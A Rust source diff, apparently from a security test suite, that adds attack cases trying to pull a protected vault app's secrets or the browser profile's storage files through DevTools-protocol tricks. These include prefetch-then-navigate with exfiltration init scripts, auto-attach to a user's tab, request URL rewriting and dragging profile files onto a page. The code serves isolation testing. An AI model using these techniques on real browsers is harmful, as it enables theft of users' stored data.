@@ -132,6 +132,15 @@ pub fn all() -> Vec<Attack> {
         A::new("c7.file-input-profile", "DOM.setFileInputFiles puts the profile's Local Storage and IndexedDB files (the well-known profile path) into the client's page, which reads the vault's data", file_input_profile),
         A::new("c7.file-url-profile", "the client's page navigates to the profile's Local Storage and IndexedDB files by file: URL", file_url_profile),
         A::new("c7.download-path-popup", "Browser.setDownloadBehavior to the client's directory, then the client's page opens a vault download in a popup: the user's protected file lands there", download_path_popup),
+        A::new("c2.prefetch-navigation", "the client's page (init script, a fresh browser context) prefetches the vault app by speculation rules; its own script navigates there 800 ms later", prefetch_navigation).tries(2),
+        A::new("c2.prefetch-at-once", "the client's page (init script, a fresh browser context) prefetches the vault app by speculation rules and navigates there in the same task", prefetch_at_once).tries(3),
+        A::new("c2.prefetch-before-attach", "the user's ordinary tab (a fresh context) prefetched the vault before the client attached (init script); then the page navigates there", prefetch_before_attach).tries(3),
+        A::new("c2.prefetch-same-site", "the client's page on other.client.example (init script) prefetches the extra origin's app by speculation rules; its own script navigates there 800 ms later", prefetch_same_site).tries(2),
+        A::new("c2.auto-attach-user-tab", "browser-wide auto-attach (paused); the user opens a tab on a slow ordinary redirect to the vault: init script on the auto-attached session", auto_attach_user_tab).tries(2),
+        A::new("c1.user-framed-at-attach", "the user's ordinary tab already frames the vault when the client attaches: Page.captureSnapshot at once", user_framed_at_attach),
+        A::new("c1.same-site-frame-at-attach", "the user's tab on other.client.example already frames the extra origin's app (one renderer) when the client attaches: DOM.getDocument with pierce", same_site_frame_at_attach),
+        A::new("c7.fetch-rewrite-url", "Fetch.continueRequest rewrites the URL of the client's own document request to the vault (or a hop to it)", fetch_rewrite_url),
+        A::new("c7.drag-files-profile", "Input.dispatchDragEvent drops the profile's storage files on the client's page, which reads the vault's data", drag_files_profile),
         A::new("c7.worker-script-source", "the client's page runs a worker that imports a vault script: Debugger.getScriptSource on the worker's session (ids shown or guessed)", worker_script_source),
     ]
 }
@@ -3194,4 +3203,281 @@ fn worker_script_source(ctx: &Ctx) -> Res {
         }
     }
     ctx.holds_secret("the worker's script sources", &text)
+}
+
+/// An init script that runs the exfiltration once the document is parsed.
+fn exfil_on_load(ctx: &Ctx) -> String {
+    format!(
+        "document.addEventListener('DOMContentLoaded', () => {{ {} }});",
+        ctx.exfil_js()
+    )
+}
+
+/// The client's page on `origin` (with an init script) prefetches `target` by speculation
+/// rules, and its own script navigates there `delay` ms later (the client needs no session
+/// by then).
+fn prefetch_then_go(ctx: &Ctx, origin: &str, target: &str, fresh: bool, delay: u64) -> Res {
+    let url = ctx.url(origin, "/page");
+    // Chromium prefetches a cross-site document only while the profile has no cookie for
+    // it: a fresh browser context has none.
+    let s = if fresh {
+        let c = ctx.send("Target.createBrowserContext", json!({}), None)?;
+        let t = ctx.send(
+            "Target.createTarget",
+            json!({"url": url, "browserContextId": c["browserContextId"]}),
+            None,
+        )?;
+        ctx.attach(t["targetId"].as_str().unwrap_or_default())?
+    } else {
+        ctx.open(&url)?.1
+    };
+    ctx.wait_true(&s, "document.readyState === 'complete'", 10_000)?;
+    let _ = ctx.send("Page.enable", json!({}), Some(&s));
+    ctx.send(
+        "Page.addScriptToEvaluateOnNewDocument",
+        json!({"source": exfil_on_load(ctx)}),
+        Some(&s),
+    )?;
+    let rules = json!({"prefetch": [{"source": "list", "urls": [target]}]}).to_string();
+    ctx.eval(
+        &s,
+        &format!(
+            "(() => {{ const e = document.createElement('script'); e.type = 'speculationrules'; e.textContent = {}; document.head.append(e); setTimeout(() => {{ location.href = {}; }}, {delay}); return true; }})()",
+            json!(rules),
+            json!(target),
+        ),
+    )?;
+    let path = target.split_once("://").map_or("", |(_, r)| r);
+    let host = path.split('/').next().unwrap_or_default().to_string();
+    let app_requests = || {
+        ctx.app()
+            .log()
+            .iter()
+            .filter(|h| h.host == host && h.path() == "/app" && h.target.contains(&ctx.tag))
+            .count()
+    };
+    sleep(delay + 500);
+    ctx.exfil_loop(&s, 2000);
+    ctx.exfiltrated(2000).map(|e| {
+        format!(
+            "{e} ({} request(s) for the app: the navigation used the prefetch when 1)",
+            app_requests()
+        )
+    })
+}
+
+fn prefetch_navigation(ctx: &Ctx) -> Res {
+    prefetch_then_go(ctx, "http://ordinary.test", &ctx.vault("/app"), true, 800)
+}
+
+fn prefetch_at_once(ctx: &Ctx) -> Res {
+    prefetch_then_go(ctx, "http://ordinary.test", &ctx.vault("/app"), true, 0)
+}
+
+fn prefetch_same_site(ctx: &Ctx) -> Res {
+    let target = ctx.url("http://client.example", "/app");
+    prefetch_then_go(ctx, "http://other.client.example", &target, false, 800)
+}
+
+fn auto_attach_user_tab(ctx: &Ctx) -> Res {
+    let from = ctx.c.event_count();
+    ctx.send(
+        "Target.setAutoAttach",
+        json!({"autoAttach": true, "waitForDebuggerOnStart": true, "flatten": true}),
+        None,
+    )?;
+    let before: Vec<Value> = ctx
+        .user_targets()
+        .iter()
+        .map(|t| t["targetId"].clone())
+        .collect();
+    ctx.obs()
+        .send(
+            "Target.createTarget",
+            json!({"url": hop_to_vault(ctx, 1500)}),
+            None,
+        )
+        .map_err(|e| super::setup("the user's tab", e))?;
+    let (_, e) = ctx
+        .c
+        .wait_event(
+            from,
+            &|e| {
+                e.method == "Target.attachedToTarget"
+                    && e.params["targetInfo"]["type"] == "page"
+                    && !before.contains(&e.params["targetInfo"]["targetId"])
+            },
+            Duration::from_secs(4),
+        )
+        .ok_or_else(|| {
+            Stop::Failed(format!(
+                "no session to the user's tab: {}",
+                e_info(&ctx.events(from))
+            ))
+        })?;
+    let p = e.params["sessionId"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    exfil_during_commit(ctx, &p)
+}
+
+fn user_framed_at_attach(ctx: &Ctx) -> Res {
+    let page = ctx.url(
+        "http://ordinary.test",
+        &format!("/page?frame={}", encode(&ctx.vault("/app"))),
+    );
+    let tab = ctx.user_open(&page)?;
+    if !ctx.app_loaded(&ctx.tag, 5000) {
+        return Err(Stop::Setup("the vault frame never loaded".into()));
+    }
+    let s = ctx.attach(&tab)?;
+    let r = ctx.send("Page.captureSnapshot", json!({"format": "mhtml"}), Some(&s))?;
+    ctx.holds_secret(
+        "Page.captureSnapshot",
+        r["data"].as_str().unwrap_or_default(),
+    )
+}
+
+fn same_site_frame_at_attach(ctx: &Ctx) -> Res {
+    let app = ctx.url("http://client.example", "/app");
+    let page = ctx.url(
+        "http://other.client.example",
+        &format!("/page?frame={}", encode(&app)),
+    );
+    let tab = ctx.user_open(&page)?;
+    if !ctx.app_loaded(&ctx.tag, 5000) {
+        return Err(Stop::Setup("the extra origin's frame never loaded".into()));
+    }
+    let s = ctx.attach(&tab)?;
+    let r = ctx.send(
+        "DOM.getDocument",
+        json!({"depth": -1, "pierce": true}),
+        Some(&s),
+    )?;
+    ctx.holds_secret("DOM.getDocument", &r.to_string())
+}
+
+fn fetch_rewrite_url(ctx: &Ctx) -> Res {
+    let (_, s) = client_page(ctx, None)?;
+    ctx.send(
+        "Fetch.enable",
+        json!({"patterns": [{"urlPattern": "*rewrite=1*", "resourceType": "Document", "requestStage": "Request"}]}),
+        Some(&s),
+    )?;
+    let mut answers = Vec::new();
+    for to in [ctx.vault("/app"), hop_to_vault(ctx, 0)] {
+        let from = ctx.c.event_count();
+        let next = ctx.url("http://ordinary.test", "/page?rewrite=1");
+        ctx.eval(&s, &format!("location.href = {}; true", json!(next)))?;
+        let Some((_, e)) = ctx.c.wait_event(
+            from,
+            &|e| {
+                e.method == "Fetch.requestPaused"
+                    && e.params["request"]["url"]
+                        .as_str()
+                        .is_some_and(|u| u.contains("rewrite=1"))
+            },
+            Duration::from_secs(3),
+        ) else {
+            answers.push("never paused".to_string());
+            continue;
+        };
+        let r = ctx.c.send(
+            "Fetch.continueRequest",
+            json!({"requestId": e.params["requestId"], "url": to}),
+            Some(&s),
+        );
+        answers.push(format!("{r:?}"));
+        sleep(1000);
+        if let Ok(Value::String(text)) = ctx.eval_quick(&s, DEEP_TEXT, 2000) {
+            if text.contains(ctx.secret()) {
+                return ctx.holds_secret("the rewritten document", &text);
+            }
+        }
+    }
+    Err(Stop::Failed(format!(
+        "no rewritten document held the secret: {answers:?}"
+    )))
+}
+
+fn drag_files_profile(ctx: &Ctx) -> Res {
+    vault_stored(ctx)?;
+    let profile = profile_dir(ctx).ok_or_else(|| Stop::Setup("no profile dir".into()))?;
+    let (_, s) = client_page(ctx, None)?;
+    ctx.eval(
+        &s,
+        "(() => { const d = document.createElement('div'); d.style.cssText = 'position:absolute;left:0;top:0;width:300px;height:300px'; \
+         d.addEventListener('dragover', (e) => e.preventDefault()); \
+         d.addEventListener('drop', (e) => { e.preventDefault(); const fs = Array.from(e.dataTransfer.files); \
+           Promise.all(fs.map((f) => f.arrayBuffer().then((b) => f.name + ':' + new TextDecoder('latin1').decode(b), () => ''))).then((a) => { window.__got = (window.__got || '') + a.join('\\n'); }); }); \
+         document.body.append(d); return true; })()",
+    )?;
+    let deadline = std::time::Instant::now() + Duration::from_secs(15);
+    loop {
+        let data = json!({"items": [], "files": storage_files(&profile), "dragOperationsMask": 1});
+        for kind in ["dragEnter", "dragOver", "drop"] {
+            ctx.send(
+                "Input.dispatchDragEvent",
+                json!({"type": kind, "x": 100, "y": 100, "data": data}),
+                Some(&s),
+            )?;
+        }
+        sleep(500);
+        let got = ctx.eval(&s, "window.__got || ''")?;
+        let got = got.as_str().unwrap_or_default().to_string();
+        if got.contains(ctx.secret()) || std::time::Instant::now() >= deadline {
+            return ctx.holds_secret("the dropped profile files", &got);
+        }
+        sleep(1000);
+    }
+}
+
+fn prefetch_before_attach(ctx: &Ctx) -> Res {
+    let c = ctx
+        .obs()
+        .send("Target.createBrowserContext", json!({}), None)
+        .map_err(|e| super::setup("the user's context", e))?;
+    let url = ctx.url("http://ordinary.test", "/page");
+    let t = ctx
+        .obs()
+        .send(
+            "Target.createTarget",
+            json!({"url": url, "browserContextId": c["browserContextId"]}),
+            None,
+        )
+        .map_err(|e| super::setup("the user's tab", e))?;
+    let tab = t["targetId"].as_str().unwrap_or_default().to_string();
+    ctx.user_wait_loaded(&tab, &url)?;
+    let target = ctx.vault("/app");
+    let rules = json!({"prefetch": [{"source": "list", "urls": [target]}]}).to_string();
+    ctx.user_eval(
+        &tab,
+        &format!(
+            "(() => {{ const e = document.createElement('script'); e.type = 'speculationrules'; e.textContent = {}; document.head.append(e); return true; }})()",
+            json!(rules)
+        ),
+    )?;
+    ctx.app()
+        .wait(Duration::from_secs(3), |h| {
+            h.host == "vault.sliccy.ai" && h.path() == "/app" && h.target.contains(&ctx.tag)
+        })
+        .ok_or_else(|| Stop::Setup("the page never prefetched the vault".into()))?;
+    let s = ctx.attach(&tab)?;
+    let _ = ctx.send("Page.enable", json!({}), Some(&s));
+    ctx.send(
+        "Page.addScriptToEvaluateOnNewDocument",
+        json!({"source": exfil_on_load(ctx)}),
+        Some(&s),
+    )?;
+    ctx.user_eval(
+        &tab,
+        &format!(
+            "setTimeout(() => {{ location.href = {}; }}, 100); true",
+            json!(target)
+        ),
+    )?;
+    sleep(600);
+    ctx.exfil_loop(&s, 2000);
+    ctx.exfiltrated(2000)
 }
